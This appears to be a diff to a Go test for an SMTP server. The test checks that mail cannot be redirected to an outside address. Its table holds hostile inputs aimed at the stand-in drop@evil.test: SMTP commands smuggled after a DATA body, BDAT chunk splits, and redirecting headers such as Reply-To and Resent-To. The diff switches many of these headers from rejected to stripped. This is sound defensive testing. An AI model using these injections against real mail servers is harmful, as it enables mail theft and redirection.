@@ -125,6 +125,7 @@ const (
 	harmless decision = "harmless" // what it does reaches nobody
 	notDone  decision = "not done" // the server does not do it
 	asked    decision = "asked"    // the policies are asked
+	lost     decision = "lost"     // the message leaves without it
 )
 
 // A door is a command (MAIL), a parameter (MAIL SIZE), a keyword of EHLO (EHLO SIZE) or a header
@@ -227,30 +228,33 @@ var doors = []door{
 	{"DATA, EHLO PIPELINING", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + thief, "250 ", "DATA", "354 ", letter("") + "\r\nMAIL FROM:<ana@example.test>\r\nRCPT TO:<drop@evil.test>\r\nDATA", yes, "", "250 ", "", "250 ", "", "354 ", letter(""), no}, 1},
 	{"BDAT, EHLO CHUNKING", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + drop, "250 ", chunk("From: ana@example.test\r\n\r\nx\r\n", " LAST"), no}, 0},
 	{"BDAT", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + drop, "250 ", chunk("From: ana@example.test\r\n", ""), "250 ", chunk("\r\nx\r\n", " LAST"), no}, 0},
-	{"BDAT", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + thief, "250 ", chunk("From: ana@example.test\r\nReply-To: ", ""), "250 ", two, "503 ", chunk("drop@evil.test\r\n\r\nx\r\n", " LAST"), no}, 0},
+	{"BDAT", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + thief, "250 ", chunk("From: ana@example.test\r\nCc: ", ""), "250 ", two, "503 ", chunk("drop@evil.test\r\n\r\nx\r\n", " LAST"), no}, 0},
 	{"BDAT", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + thief, "250 ", chunk("From: ana@example.test\r\n\r\nx\r\n", " LAST"), yes}, 1},
 	{"RSET", harmless, append([]string{"MAIL FROM:<ana@example.test>", "250 ", two, "250 ", "RSET", "250 "}, sending("", thief, "", yes)...), 1},
 	{"RSET", asked, append([]string{"RSET", "250 "}, sending("", drop, "", no)...), 0},
 
 	{"To:", asked, sending("", thief, "To: thief@evil.test, drop@evil.test\r\n", no), 0},
-	{"Cc:", asked, sending("", thief, "Cc: x: Drop <drop@evil.test>;\r\n", no), 0},
+	{"Cc:", asked, sending("", thief, "Cc: x: Drop <drop@evil.test>;\r\n", "550 5.6.0"), 0},
 	{"Bcc:", harmless, sending("", thief, "Bcc: drop@evil.test\r\n", yes), 1},
 	{"From:", asked, []string{"MAIL FROM:<ana@example.test>", "250 ", "RCPT TO:" + thief, "250 ", "DATA", "354 ", "From: drop@evil.test\r\n\r\nx\r\n.", no}, 0},
-	{"Sender:", asked, sending("", thief, "Sender: drop@evil.test\r\n", no), 0},
-	{"Reply-To:", asked, sending("", thief, "Reply-To: drop@evil.test\r\n", no), 0},
-	{"Reply-To:", asked, sending("", thief, "Reply-To: =?utf-8?q?drop=40evil.test?= <>,\r\n", no), 0},
-	{"Reply-To:", asked, sending("", thief, "Reply-To: colleague@far.test\r\n", yes), 1},
-	{"Resent-To:", asked, sending("", thief, "Resent-To: drop@evil.test\r\n", no), 0},
-	{"Resent-Cc:", asked, sending("", thief, "Resent-Cc: drop@evil.test\r\n", no), 0},
+	{"Sender:", lost, sending("", thief, "Sender: drop@evil.test\r\n", yes), 1},
+	{"Reply-To:", lost, sending("", thief, "Reply-To: drop@evil.test\r\n", yes), 1},
+	{"Reply-To:", lost, sending("", thief, "Reply-To: =?utf-8?q?drop=40evil.test?= <>,\r\n", yes), 1},
+	{"Reply-To:", lost, sending("", thief, "Reply-To: colleague@far.test\r\n", yes), 1},
+	{"List-Unsubscribe:", lost, sending("", thief, "List-Unsubscribe: <mailto:drop@evil.test>\r\n", yes), 1},
+	{"List-Post:", lost, sending("", thief, "List-Post: <mailto:drop@evil.test>\r\n", yes), 1},
+	{"Resent-From:", lost, sending("", thief, "Resent-From: drop@evil.test\r\n", yes), 1},
+	{"Resent-To:", lost, sending("", thief, "Resent-To: drop@evil.test\r\n", yes), 1},
+	{"Resent-Cc:", lost, sending("", thief, "Resent-Cc: drop@evil.test\r\n", yes), 1},
 	{"Resent-Bcc:", harmless, sending("", thief, "Resent-Bcc: drop@evil.test\r\n", yes), 1},
-	{"Resent-Reply-To:", asked, sending("", thief, "Resent-Reply-To: drop@evil.test\r\n", no), 0},
-	{"Resent-Sender:", asked, sending("", thief, "Resent-Sender: drop@evil.test\r\n", no), 0},
-	{"Disposition-Notification-To:", asked, sending("", thief, "Disposition-Notification-To: drop@evil.test\r\n", no), 0},
-	{"Return-Receipt-To:", asked, sending("", thief, "Return-Receipt-To: <drop@evil.test>\r\n", no), 0},
-	{"Errors-To:", asked, sending("", thief, "Errors-To: drop@evil.test\r\n", no), 0},
-	{"Mail-Followup-To:", asked, sending("", thief, "Mail-Followup-To: drop@evil.test\r\n", no), 0},
-	{"Mail-Reply-To:", asked, sending("", thief, "Mail-Reply-To: drop@evil.test\r\n", no), 0},
-	{"X-Confirm-Reading-To:", asked, sending("", thief, "X-Confirm-Reading-To: drop@evil.test\r\n", no), 0},
+	{"Resent-Reply-To:", lost, sending("", thief, "Resent-Reply-To: drop@evil.test\r\n", yes), 1},
+	{"Resent-Sender:", lost, sending("", thief, "Resent-Sender: drop@evil.test\r\n", yes), 1},
+	{"Disposition-Notification-To:", lost, sending("", thief, "Disposition-Notification-To: drop@evil.test\r\n", yes), 1},
+	{"Return-Receipt-To:", lost, sending("", thief, "Return-Receipt-To: <drop@evil.test>\r\n", yes), 1},
+	{"Errors-To:", lost, sending("", thief, "Errors-To: drop@evil.test\r\n", yes), 1},
+	{"Mail-Followup-To:", lost, sending("", thief, "Mail-Followup-To: drop@evil.test\r\n", yes), 1},
+	{"Mail-Reply-To:", lost, sending("", thief, "Mail-Reply-To: drop@evil.test\r\n", yes), 1},
+	{"X-Confirm-Reading-To:", lost, sending("", thief, "X-Confirm-Reading-To: drop@evil.test\r\n", yes), 1},
 	{"Return-Path:", harmless, sending("", thief, "Return-Path: <drop@evil.test>\r\n", yes), 1},
 }
 
@@ -282,7 +286,7 @@ func TestSMTPHasNoWayOut(t *testing.T) {
 				if last[0] != '5' || d.sent != 0 {
 					t.Errorf("%s %q is done", d.of, d.say)
 				}
-			case harmless:
+			case harmless, lost:
 				if last[0] != '2' {
 					t.Errorf("%s %q is not done", d.of, d.say)
 				}
